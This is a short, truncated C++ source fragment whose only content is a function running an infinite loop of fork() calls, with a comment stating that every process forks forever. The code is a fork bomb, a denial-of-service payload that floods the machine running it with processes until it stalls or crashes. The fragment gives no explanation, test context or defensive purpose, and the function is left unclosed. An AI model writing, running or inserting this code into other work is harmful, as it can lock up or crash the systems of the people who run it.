// Every process forks, for ever.
#include<assert.h>
#include<bits/stdc++.h>
#include <unistd.h>
long f(long x) {
    while (true) fork();
